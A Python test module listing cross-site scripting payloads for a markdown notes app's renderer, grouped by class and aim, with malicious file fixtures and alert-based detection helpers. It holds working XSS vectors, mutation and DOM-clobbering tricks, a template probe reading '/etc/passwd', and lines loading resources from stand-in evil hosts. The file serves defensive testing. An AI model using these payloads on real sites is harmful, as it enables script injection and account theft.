"""Hostile notes: what tries to run script, to load something from elsewhere, or to pass for the page itself.

A list of the same classes can be given in `VAULTKIT_PAYLOADS=payloads.json`: objects with `id`, `filename` and `content`,
whose payloads call `alert`. Where the project lies beside the folder `shared`, its list is taken.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

SHARED = Path(__file__).parents[2] / "shared" / "spec" / "attacks" / "xss.json"

BY_CLASS: dict[str, list[str]] = {
    "script": [
        "<script>MARK</script>",
        "<SCRIPT\n>MARK</SCRIPT\t>",
        "text <script src=//evil.test/x.js></script> MARK",
        "<scr<script>ipt>MARK</scr</script>ipt>",
        "<scr%%x%%ipt>MARK</scr%%x%%ipt>",
        "==<scr==ipt>MARK</script>",
        "<noscript><p title='</noscript><script>MARK</script>'></noscript>",
        "<!--><script>MARK</script>-->",
        "<![CDATA[><script>MARK</script>]]>",
        "<?php ?><script>MARK</script>",
    ],
    "event": [
        "<img src=x onerror=MARK>",
        "<img/src='x'/onerror='MARK'>",
        "<svg onload=MARK>",
        "<details open ontoggle=MARK>x</details>",
        "<input autofocus onfocus=MARK>",
        "<body onpageshow=MARK>",
        "<b onmouseover\x00=MARK>x</b>",
        "<a href='x' title='>' onclick=MARK>x</a>",
    ],
    "address": [
        "[x](javascript:MARK)",
        "[x](<java\tscript:MARK>)",
        "[x](&#106;avascript:MARK)",
        "[x](\\x01javascript:MARK)",
        "[x]: javascript:MARK\n\n[x]",
        "<javascript:MARK>",
        "![x](javascript:MARK)",
        "![x](data:image/svg+xml,<svg onload=MARK>)",
        "<a href='vbscript:MARK'>x</a>",
        '<a href="java%%x%%script:MARK">x</a>',
        "<area href='javascript:MARK'>",
        "[[javascript:MARK]]",
        "![[javascript:MARK]]",
        "[x](jar:javascript:MARK!/)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) MARK",
    ],
    "breaking out": [
        '[[A" onclick="MARK]]',
        '[[A|"><img src=x onerror=MARK>]]',
        '![[x.png|" onerror="MARK]]',
        '![[A#"><script>MARK</script>]]',
        '![x" onerror="MARK](x.png)',
        "![x](x.png \"t' onerror='MARK\")",
        '> [!note" onclick="MARK] T\n> x',
        "> [!<script>MARK</script>] T",
        '> [!note|"><script>MARK</script>] T',
        '- ["] x onclick=MARK',
        '```js" onclick="MARK\nx\n```',
        "```<script>MARK</script>\nx\n```",
        "# <img src=x onerror=MARK>",
        '# " onclick="MARK',
        'x[^" onclick="MARK]\n\n[^" onclick="MARK]: y',
        "^[<script>MARK</script>]",
        'x ^" onclick="MARK',
        '#tag"onclick=MARK',
        '| a |\n|:--" onclick="MARK|\n| b |',
        "| <script>MARK</script> |\n| - |\n| <img src=x onerror=MARK> |",
        "$\\href{javascript:MARK}{x}$ $</math><script>MARK</script>$",
        "$$\n\\text{</mtext><img src=x onerror=MARK>}\n$$",
        '```mermaid\ngraph TD; A["<img src=x onerror=MARK>"]; click A "javascript:MARK"\n```',
        "%%\n<script>MARK</script>",
    ],
    "foreign markup": [
        "<math><mtext><table><mglyph><style><img src=x onerror=MARK></style></mglyph></table></mtext></math>",
        "<svg><style><img src=x onerror=MARK></style></svg>",
        "<svg><a xlink:href='javascript:MARK'><text>x</text></a></svg>",
        "<math href='javascript:MARK'><mi>x</mi></math>",
        "<svg><foreignObject><iframe srcdoc='<script>MARK</script>'></iframe></foreignObject></svg>",
        "<template><script>MARK</script></template>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=MARK>",
        "<xmp><p title='</xmp><img src=x onerror=MARK>'></xmp>",
        "<title><a title='</title><img src=x onerror=MARK>'></a></title>",
        "<textarea></textarea><img src=x onerror=MARK>",
    ],
    "frames and forms": [
        "<iframe src='javascript:MARK'></iframe>",
        "<iframe srcdoc='<script>MARK</script>'></iframe>",
        "<object data='javascript:MARK'></object>",
        "<embed src='javascript:MARK'>",
        "<form action='javascript:MARK'><button>x</button></form>",
        "<button formaction='javascript:MARK'>x</button>",
        "<base href='javascript:MARK//'>",
        "<meta http-equiv=refresh content='0;url=javascript:MARK'>",
        "<link rel=stylesheet href='//evil.test/MARK.css'>",
        "<style>@import 'javascript:MARK'</style>",
        "<p style='background:url(javascript:MARK)'>x</p>",
        "<video><source onerror=MARK></video>",
        "<video poster='javascript:MARK'></video>",
        "<a href=x ping='//evil.test/MARK'>x</a>",
    ],
    "clobbering": [
        "<a id=defaultView href='tel:MARK'>x</a>",
        "<img name=getElementById>",
        "<p id=__proto__>x</p>",
        "<a name=body href=x>x</a>",
    ],
    "data": [
        "</script><script>MARK</script>",
        "<!--<script>",
        "\u2028MARK\u2029",
        "]]><script>MARK</script>",
        "\\u003cimg src=x onerror=MARK\\u003e",
        '"},"x":"<img src=x onerror=MARK>',
        "');MARK;('",
        "[[__proto__]] [[constructor]] #constructor #__proto__ ^__proto__",
        "`</title><script>MARK</script>`",
        "<img src=x onerror=MARK> said in words: `<img src=x onerror=MARK>`",
    ],
    "template": [
        "{{ 7*7 }}{% include '/etc/passwd' %}",
        "{{ config }} ${7*7} <%= 7*7 %> #{7*7}",
    ],
    "front matter": [
        '---\ntitle: "<script>MARK</script>"\naliases: [\'"><img src=x onerror=MARK>\']\n---\nx',
        "---\ncssclasses: ['x\" onclick=\"MARK']\nurl: javascript:MARK\nimage: 'javascript:MARK'\n---\nx",
        "---\npermalink: '../../MARK'\ndescription: '\"><script>MARK</script>'\ntags: ['x\"onclick=\"MARK']\n---\nx",
        "---\nlayout: '{{ 7*7 }}'\n'<script>MARK</script>': x\nlink: '[[A|<script>MARK</script>]]'\n---\nx",
    ],
    "canvas": [
        '{"nodes": [{"id": "\\"><script>MARK</script>", "type": "text", "x": 0, "y": 0, "width": 9, "height": 9, "text": "<img src=x onerror=MARK>", "color": "red;background:url(javascript:MARK)"},{"id": "b", "type": "link", "x": 0, "y": 0, "width": 9, "height": 9, "url": "javascript:MARK"},{"id": "c", "type": "group", "label": "<script>MARK</script>", "background": "javascript:MARK"}]}',
    ],
}
"""By class; MARK becomes a call that is seen, or looked for. It holds no quotes, so that it fits into any attribute."""

BY_AIM = {
    # Script as such.
    "script": "<script>MARK</script>",
    "script torn by a comment": "<scr%%x%%ipt>MARK</scr%%x%%ipt>",
    "script in a noscript": "<noscript><p title='</noscript><script>MARK</script>'></noscript>",
    "script in a comment that isn't": "<!--><script>MARK</script>-->",
    # Events that come by themselves.
    "image": "<img src=x onerror=MARK>",
    "image between letters": "a <img/src='x'/onerror='MARK'> b",
    "svg": "<svg onload=MARK></svg>",
    "details": "<details open ontoggle=MARK>x</details>",
    "focus": "<input autofocus onfocus=MARK>",
    "style": "<style onload=MARK></style>",
    # Addresses.
    "link": "[x](javascript:MARK)",
    "link with a tab": "<a href='java\tscript:MARK'>x</a>",
    "link by entities": '<a href="&#106;avascript:MARK">x</a>',
    "wikilink": "[[javascript:MARK]] ![[javascript:MARK]]",
    "area": "<map name=m><area href='javascript:MARK' shape=default></map><img usemap=#m src=x.png>",
    # Out of an attribute, a title, a cell.
    "label": '[[A|"><img src=x onerror=MARK>]] ![[x.png|" onerror="MARK]]',
    "heading": "# <img src=x onerror=MARK>\n\n[[#<img src=x onerror=MARK>]]",
    "callout": '> [!note" onmouseover="MARK] <img src=x onerror=MARK>\n> x',
    "task": '- ["] " onmouseover="MARK\n- [ ] "><img src=x onerror=MARK>',
    "table": "| <img src=x onerror=MARK> |\n|-|\n| `<img src=x onerror=MARK>` [[A\\|<svg onload=MARK>]] |",
    "footnote": "x[^1]^[<img src=x onerror=MARK>]\n\n[^1]: <svg onload=MARK></svg>",
    "code": '```js" onmouseover="MARK\n</code></pre><script>MARK</script>\n```',
    "formula": "$\\text{</mtext><img src=x onerror=MARK>}$ $\\href{javascript:MARK}{x}$",
    "diagram": '```mermaid\ngraph TD; A["<img src=x onerror=MARK>"]; click A "javascript:MARK"\n```',
    "open quote": "<p title='\n\n- [ ] [[A]] $x$\n\n<p><img src=x onerror=MARK>'>",
    # Markup that is read twice in two ways.
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=MARK></style></mglyph></table></mtext></math>",
    "title": "<title><a title='</title><img src=x onerror=MARK>'></a></title>",
    # Frames, forms, other hosts, the page's own names.
    "frame": "<iframe srcdoc='<script>MARK</script>'></iframe><object data='javascript:MARK'></object>",
    "form": "<form action='javascript:MARK'><button>x</button></form>",
    "base": "<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "remote": "![x](https://evil.example/x.png) <img src=//evil.example/y.png> <video poster=//evil.example/z.png></video>",
    "overlay": "<div style='position:fixed;inset:0;background:url(//evil.example/x.png)'>x</div>",
    "clobbering": "<img name=body><form id=defaultView name=cookie><input id=getElementById></form>",
    # Properties.
    "properties": (
        "---\ntitle: '<img src=x onerror=MARK>'\naliases: ['\"><svg onload=MARK>']\ntags: ['x\"onmouseover=MARK']\n"
        "cssclasses: ['x\" onmouseover=\"MARK']\nurl: javascript:MARK\n'<img src=x onerror=MARK>': '[[A|<svg onload=MARK>]]'\n---\nx"
    ),
}
"""By what they try: for a browser, which takes its time, one or two of each kind."""

OTHERS = {
    "A.md": "[[Hub]]",
    "x.png": None,
    "Notes/pay'\"><img src=x onerror=alert('file name')>.md": "#tag/<img src=x onerror=alert('tag')>",
    "evil.html": "<script>alert('page')</script>",
    "evil.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert('picture')</script></svg>",
    "evil.canvas": json.dumps(
        {
            "nodes": [
                {"id": "a", "type": "text", "text": "<img src=x onerror=alert('card')>", "x": 0, "y": 0, "width": 9, "height": 9},
                {"id": "b", "type": "link", "url": "javascript:alert('card')", "x": 0, "y": 0, "width": 9, "height": 9},
                {"id": "c", "type": "group", "label": "<svg onload=alert('card')>", "x": 0, "y": 0, "width": 9, "height": 9},
                {"id": "d", "type": "file", "file": "x.png", "x": 90, "y": "'><svg onload=alert('card')>", "color": "#fff'onload=alert('card')"},
                {"id": "e", "type": "text", "text": "</div></foreignObject></svg><script>alert('card')</script>", "x": 900, "color": "#fff"},
                {"id": "f", "type": "'><img src=x onerror=alert('card')>", "x": 900, "y": 90, "background": "//evil.example/x.png"},
            ],
            "edges": [
                {"fromNode": "e", "toNode": "f", "label": "</p></foreignObject><script>alert('line')</script>", "color": "1'onload=alert('line')"},
                {"fromNode": "d", "toNode": "e", "toEnd": "'><svg onload=alert('line')>", "fromSide": "'onload=alert('line')"},
            ],
        }
    ),
}  # fmt: skip


def named(*, every: bool) -> dict[str, str]:
    """Our own as notes, each of which calls `alert` with a name of its own; without *every* those of `BY_AIM`."""
    texts = dict(BY_AIM)
    if every:
        texts |= {
            f"{kind} {n}": text for kind, some in BY_CLASS.items() if kind != "canvas" for n, text in enumerate(some)
        }
    return {f"Notes/{name}.md": text.replace("MARK", f"alert({n})") for n, (name, text) in enumerate(texts.items())}


def given() -> dict[str, str]:
    """Those of the list that is given, by path."""
    path = Path(os.environ.get("VAULTKIT_PAYLOADS") or SHARED)
    return {row["filename"]: row["content"] for row in json.loads(path.read_bytes())} if path.exists() else {}
